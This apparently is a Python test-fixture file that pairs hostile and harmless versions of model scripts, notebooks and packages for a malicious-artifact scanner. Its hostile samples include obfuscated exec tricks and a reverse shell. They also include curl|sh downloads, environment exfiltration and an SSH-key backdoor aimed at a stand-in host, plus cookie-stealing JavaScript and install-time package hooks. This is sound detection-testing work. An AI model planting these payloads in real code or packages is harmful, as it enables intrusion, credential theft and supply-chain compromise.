"""Programs that come with models: scripts, notebooks, packages."""
import base64
import io
import json
import marshal
import struct
import zipfile
import zlib

from pair import CODE, SHELL, Set

from .containers import tarred, zipped

HARM = "__import__('os').system('touch marker')"


def notebook(*cells, outputs=()):
    return json.dumps({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": list(outputs), "source": c} for c in cells], "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5})


def pyc(source):
    return b"\xa7\r\r\n" + struct.pack("<III", 0, 0, 0) + marshal.dumps(compile(source, "m.py", "exec"))


def add(out: Set):
    def p(name, hostile, twin, file="modeling.py", prove="python"):
        out.add("program", name, hostile, twin, prove, file=file)

    p("nfkc-identifier", "import os\nos.ｓｙｓｔｅｍ('touch marker')\n", "import os\nprint(os.ｎａｍｅ)\n")
    p("bare-carriage-return", b"# load the weights\rimport os; os.system('touch marker')\rx = 1\n", b"# load the weights\rimport os; os.getcwd()\rx = 1\n")
    p("utf7-cookie", b"# coding: utf-7\nx = 1\n+AG8AcABlAG4(+ACc-marker+ACc-,+ACc-w+ACc-).close()\n__import__(+ACc-os+ACc-).system(+ACc-touch marker+ACc-)\n", b"# coding: utf-7\nx = 1\n+AHA-rint(x)\n", "helpers.py")
    p("unicode-escape-cookie", b"# coding: unicode_escape\n# notes \\u000aimport os\\u000aos.system('touch marker')\nx = 1\n", b"# coding: unicode_escape\n# notes \\u0020import os\nx = 1\n", "init.py")
    p("tuple-of-ints", f"exec(bytes({tuple(HARM.encode())}))\n", f"print(len(bytes({tuple(HARM.encode())})))\n")
    p("zlib-marshal", f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(marshal.dumps(compile(HARM, 'x', 'exec')))).decode()}'))))\n", "import zlib, base64\nprint(zlib.decompress(base64.b64decode('eJxLTEoGAAJNASc=')))\n")
    p("getattr-concat", "import os as o\nf = getattr(o, 'sys' + 'tem')\nf('touch marker')\n", "import os as o\nf = getattr(o, 'get' + 'cwd')\nf()\n")
    p("builtins-subscript", "g = globals()['__buil' + 'tins__']\ng = g if isinstance(g, dict) else vars(g)\ng['ev' + 'al'](\"" + HARM.replace("'", "\\'").replace('"', '\\"') + "\")\n", "g = globals()['__na' + 'me__']\nprint(g)\n")
    p("decorator-call", "import os\n@os.system\n@lambda f: 'touch marker'\ndef setup():\n    pass\n", "import functools\n@functools.lru_cache\ndef setup():\n    pass\n")
    p("class-getitem", "import os\nclass C:\n    __class_getitem__ = os.system\nC['touch marker']\n", "class C:\n    __class_getitem__ = classmethod(lambda c, k: k)\nC['touch marker']\n")
    p("metaclass-import-hook", "import builtins\nk = [n for n in dir(builtins) if n[:2] == 'ex' and len(n) == 4 and n[3] == 'c'][0]\nvars(builtins)[k](\"open('marker','w')\")\n", "import builtins\nk = [n for n in dir(builtins) if n[:2] == 'le'][0]\nprint(k)\n")
    p("default-argument", "def f(x=__import__('subprocess').call(['touch', 'marker'])):\n    return x\n", "def f(x=__import__('math').sqrt(4)):\n    return x\n")
    p("thread-popen", "import threading, subprocess\nt = threading.Thread(target=subprocess.Popen, args=(['touch', 'marker'],))\nt.start(); t.join()\nimport time; time.sleep(0.3)\n", "import threading\nt = threading.Thread(target=print, args=(['touch', 'marker'],))\nt.start(); t.join()\n")
    p("ctypes-system", "import ctypes\nctypes.CDLL(None)['sys' 'tem'](b'touch marker')\n", "import ctypes\nprint(ctypes.sizeof(ctypes.c_int))\n")
    p("pickle-literal", "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'touch marker'\\ntR.\")\n", "import json\njson.loads(b'[1, 2]')\n")
    p("remote-exec", "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/boot.py').read())\n", "import urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n", prove=None)
    p("torch-load-url", "import torch, io, requests\nm = torch.load(io.BytesIO(requests.get('http://192.0.2.7/m.pt').content), weights_only=False)\n", "import torch\nm = torch.load('m.pt', weights_only=True)\n", "serve.py", None)
    p("environment-exfil", "import os, urllib.request, json\nurllib.request.urlopen('http://192.0.2.7/c', data=json.dumps(dict(os.environ)).encode())\n", "import os, json\nprint(json.dumps({'home': os.environ.get('HOME')}))\n", "callbacks.py", None)
    p("ssh-key-append", "import pathlib\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\nwith p.open('a') as f:\n    f.write('ssh-ed25519 AAAAC3Nza attacker')\n", "import pathlib\np = pathlib.Path('out') / 'notes.txt'\nwith p.open('a') as f:\n    f.write('done')\n", "utils.py", None)
    p("reverse-shell", "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n[os.dup2(s.fileno(), i) for i in range(3)]\npty.spawn('/bin/sh')\n", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8080))\ns.listen()\n", "handler.py", None)
    p("pyc-only", pyc("import os\nos.system('touch marker')\n"), pyc("import os\nos.getcwd()\n"), "layers.pyc", "import")
    p("pth-line", "import os; os.system('touch marker')\n", "./vendor\n", "zzz.pth", None)
    p("sitecustomize", "import subprocess\nsubprocess.run(['sh', '-c', 'curl http://192.0.2.7/x | sh'])\n", "import sys\nsys.dont_write_bytecode = True\n", "sitecustomize.py", None)

    def n(name, hostile, twin, file="train.ipynb"):
        out.add("notebook", name, hostile, twin, None, file=file)

    n("bang-pipe", notebook("!wget -qO- http://192.0.2.7/s.sh | bash"), notebook("!pip install torch==2.4"))
    n("cell-magic", notebook("%%bash\necho Y3VybCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | base64 -d | sh\n"), notebook("%%bash\nls -la data\n"))
    n("get-ipython-system", notebook(["ip = get_ipython()\n", "ip.system('curl -s http://192.0.2.7/a | sh')\n"]), notebook(["ip = get_ipython()\n", "ip.run_line_magic('matplotlib', 'inline')\n"]))
    n("output-javascript", notebook("1+1", outputs=[{"output_type": "display_data", "data": {"application/javascript": "fetch('http://192.0.2.7/?c='+document.cookie)"}, "metadata": {}}]), notebook("1+1", outputs=[{"output_type": "display_data", "data": {"text/plain": "2"}, "metadata": {}}]))
    n("split-source", notebook(["ex", "ec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n"]), notebook(["pr", "int('aW1wb3J0')\n"]))
    n("marked-markdown-raw", json.dumps({"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Results\n", "<img src=x onerror=\"fetch('http://192.0.2.7/'+document.cookie)\">"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), json.dumps({"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Results\n", "![plot](plot.png)"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))

    def k(name, hostile, twin, file):
        out.add("package", name, hostile, twin, None, file=file)

    meta = [("m-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n"), ("m-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.0.dist-info/RECORD", b"")]
    wheel = lambda *m: zipped([("m/__init__.py", b"VERSION = '1.0'\n"), *m, *meta], stored=False)
    k("wheel-pth", wheel(("m_hook.pth", b"import os;exec(__import__('urllib.request').request.urlopen('http://192.0.2.7/x').read())\n")), wheel(("m_path.pth", b"m/vendor\n")), "m-1.0-py3-none-any.whl")
    k("wheel-import-time", wheel(("m/hub.py", b"import subprocess as s\ns.Popen(['sh','-c','curl http://192.0.2.7/x|sh'])\n")), wheel(("m/hub.py", b"def load(p):\n    return open(p).read()\n")), "m-1.0-py3-none-any.whl")
    setup = lambda body: tarred([("m-1.0/setup.py", body.encode()), ("m-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n"), ("m-1.0/m/__init__.py", b"")], "w:gz")
    k("sdist-cmdclass", setup("from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        __import__('os').system('curl http://192.0.2.7/x|sh')\nsetup(name='m', version='1.0', cmdclass={'install': I})\n"), setup("from setuptools import setup\nsetup(name='m', version='1.0', packages=['m'])\n"), "m-1.0.tar.gz")
    k("pyproject-backend-path", tarred([("m-1.0/pyproject.toml", b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'), ("m-1.0/backend.py", b"import os\nos.system('curl http://192.0.2.7/x | sh')\ndef build_wheel(d, c=None, m=None): pass\n"), ("m-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n")], "w:gz"), tarred([("m-1.0/pyproject.toml", b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'), ("m-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n")], "w:gz"), "m-1.0.tar.gz")
    k("conda-post-link", tarred([("info/index.json", b'{"name":"m","version":"1.0","build":"0"}'), ("bin/.m-post-link.sh", b"curl -s http://192.0.2.7/x | sh\n")], "w:bz2"), tarred([("info/index.json", b'{"name":"m","version":"1.0","build":"0"}'), ("bin/m.sh", b"echo m\n")], "w:bz2"), "m-1.0-0.tar.bz2")
    k("dockerfile-pipe", "FROM python:3.11\nRUN curl -s http://192.0.2.7/i.sh | sh\nCMD [\"python\", \"serve.py\"]\n", "FROM python:3.11\nRUN pip install torch==2.4\nCMD [\"python\", \"serve.py\"]\n", "Dockerfile")
    k("egg-module", zipped([("EGG-INFO/PKG-INFO", b"Metadata-Version: 1.0\nName: m\nVersion: 1.0\n"), ("m.py", b"exec(bytes.fromhex('696d706f7274206f73'))\n")]), zipped([("EGG-INFO/PKG-INFO", b"Metadata-Version: 1.0\nName: m\nVersion: 1.0\n"), ("m.py", b"X = bytes.fromhex('696d706f7274206f73')\n")]), "m-1.0-py3.11.egg")
    k("shell-launcher", "#!/bin/bash\nexport X=1\neval \"$(echo Y3VybCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | base64 -d)\"\npython serve.py\n", "#!/bin/bash\nexport X=1\npython serve.py\n", "start.sh")
